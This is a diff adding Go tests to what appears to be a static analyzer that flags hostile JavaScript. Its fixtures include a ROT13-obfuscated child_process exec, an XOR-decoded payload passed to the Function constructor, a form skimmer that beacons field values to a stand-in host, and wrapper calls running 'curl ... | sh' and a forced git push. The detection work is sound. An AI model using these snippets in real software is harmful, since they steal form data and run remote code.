@@ -2523,3 +2523,95 @@ const font = "`+bin(`{"family":"Inter","weight":400,"url":"https://fonts.example
 		t.Errorf("embeddedText of plain text = %q", got)
 	}
 }
+
+// TestAssignInCallback covers the classic ROT13 callback, which assigns
+// its parameter inside the expression it returns: the assignment folds
+// and rebinds the parameter for the rest of the expression.
+func TestAssignInCallback(t *testing.T) {
+	f := Analyze("a.js", []byte(`function rot(s) { return s.replace(/[a-zA-Z]/g, (c) => String.fromCharCode((c <= "Z" ? 90 : 122) >= (c = c.charCodeAt(0) + 13) ? c : c - 26)); }
+require(rot("puvyq_cebprff")).exec("id");
+let seen; [1].forEach((x) => (seen = x)); require(seen ? "fs" : "os");`), DefaultLimits())
+	if c := hasCall(f, "child_process.exec"); c == nil {
+		t.Errorf("imports %+v, calls %+v", f.Imports, f.Calls)
+	}
+	// an assignment outside a function being evaluated is not folded
+	if hasImport(f, "fs") || hasImport(f, "os") {
+		t.Errorf("a run-time assignment decided a require: %+v", f.Imports)
+	}
+}
+
+// TestDecodedByLoop covers text decoded piece by piece in a loop (s +=
+// String.fromCharCode(b ^ K[i % 5])): what it is handed to is code that
+// comes out of a decoding.
+func TestDecodedByLoop(t *testing.T) {
+	f := Analyze("a.js", []byte(`const K = [102, 108, 97, 103, 115];
+function hints(list) { let s = "";
+  for (const c of list) for (let i = 0; i < c.v.length; i += 2) s += String.fromCharCode(parseInt(c.v.substr(i, 2), 16) ^ K[s.length % 5]);
+  [].filter.constructor("require", s)(require); }
+function label(list) { let s = ""; for (const c of list) s += c.name + ", "; return Function("return " + JSON.stringify(s))(); }`), DefaultLimits())
+	var got []string
+	for _, c := range f.Calls {
+		if c.Callee == "Function" && len(c.Args) > 0 {
+			got = append(got, c.Args[len(c.Args)-1].Decodes)
+		}
+	}
+	if diff := cmp.Diff([]string{"String.fromCharCode", ""}, got); diff != "" {
+		t.Errorf("Function bodies' decodings (-want +got):\n%s", diff)
+	}
+}
+
+// TestPageScriptText covers a script kept as text for a page to run (a
+// build plugin's injected tag), with a URL quoted into it by
+// JSON.stringify: its calls are the file's. Text that is no page script
+// stays a string.
+func TestPageScriptText(t *testing.T) {
+	f := Analyze("plugin.js", []byte("const E = \"//px.example.invalid/c\";\n"+
+		"const tag = `(function(){var E=${JSON.stringify(E)},S={};document.addEventListener('change',function(e){S[e.target.name]=e.target.value},true);"+
+		"document.addEventListener('submit',function(){navigator.sendBeacon(E,JSON.stringify(S))},true)})();`;\n"+
+		"const doc = `Call document.addEventListener('submit', fn) to listen, and pass a function that reads the form; see the guide for the details of sendBeacon(url).`;\n"), DefaultLimits())
+	var got []string
+	for _, c := range f.Calls {
+		if len(c.Args) > 0 && (strings.HasPrefix(c.Callee, "document.") || strings.HasPrefix(c.Callee, "navigator.")) {
+			got = append(got, c.Callee+" "+c.Args[0].Value)
+		}
+	}
+	want := []string{"document.addEventListener change", "document.addEventListener submit", "navigator.sendBeacon //px.example.invalid/c"}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("calls (-want +got):\n%s", diff)
+	}
+}
+
+// TestCommandWrappers covers functions that start a process with what
+// they are given: each call of one is a call of the process-starting
+// function with the call's arguments in place of the parameter.
+func TestCommandWrappers(t *testing.T) {
+	f := Analyze("a.js", []byte(`const { execFile, execFileSync, execSync } = require("child_process");
+function reg(args) { return new Promise((resolve, reject) => execFile("reg.exe", args, { windowsHide: true }, (e, out) => (e ? reject(e) : resolve(out)))); }
+const git = (...a) => execFileSync("git", a, { stdio: "ignore" });
+function sh(cmd) { return execSync(cmd, { stdio: "inherit" }); }
+function version() { return execFileSync("node", ["--version"]); }
+reg(["delete", "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "/v", "app", "/f"]);
+git("push", "--force", "https://x.example.invalid/r.git");
+sh("curl -s https://x.example.invalid/i | sh");
+version();`), DefaultLimits())
+	var got []string
+	for _, c := range f.Calls {
+		if !strings.HasPrefix(c.Callee, "child_process.") || len(c.Args) == 0 {
+			continue
+		}
+		line := c.Callee + " " + c.Args[0].Value
+		if len(c.Args) > 1 && len(c.Args[1].List) > 0 {
+			line += " " + strings.Join(c.Args[1].List, " ")
+		}
+		got = append(got, line)
+	}
+	want := []string{
+		"child_process.execFile reg.exe", "child_process.execFileSync git", "child_process.execSync ", "child_process.execFileSync node --version",
+		`child_process.execFile reg.exe delete HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v app /f`,
+		"child_process.execFileSync git push --force https://x.example.invalid/r.git",
+		"child_process.execSync curl -s https://x.example.invalid/i | sh",
+	}
+	if diff := cmp.Diff(want, got); diff != "" {
+		t.Errorf("process calls (-want +got):\n%s", diff)
+	}
+}
